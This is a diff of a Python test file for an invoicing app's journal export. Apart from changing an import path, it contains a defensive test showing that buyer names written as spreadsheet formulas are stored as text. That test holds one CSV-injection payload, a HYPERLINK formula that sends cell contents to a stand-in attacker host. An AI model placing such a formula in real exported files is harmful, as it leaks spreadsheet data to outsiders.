@@ -27,8 +27,8 @@ BUYERS = {
 def month_of_sales(factory):
     """October invoices (issued 1 November) for a Finnish, a Swedish (reverse charge) and a
     UK buyer, and a credit note on the Finnish one (issued 3 November)."""
-    from reseller.accounts.identity import vat_status
     from reseller.billing.invoicing import buyer_of, invoicing_settings
+    from reseller.core.identity import vat_status
 
     issued = {}
     for kind, fields in BUYERS.items():
@@ -102,8 +102,8 @@ def test_the_cli_exports_the_journal(app, month_of_sales, tmp_path):
 def test_a_buyer_name_a_spreadsheet_would_run_is_text_in_the_journal(factory):
     """A company name like ``=HYPERLINK(…)`` is an apostrophe-prefixed text cell (OWASP's
     CSV-injection advice); the amounts of a credit note still read as negative numbers."""
-    from reseller.accounts.identity import vat_status
     from reseller.billing.invoicing import buyer_of, invoicing_settings
+    from reseller.core.identity import vat_status
 
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")'
     reseller = factory.reseller(company_name=formula, language="en", **BUYERS["fi"])
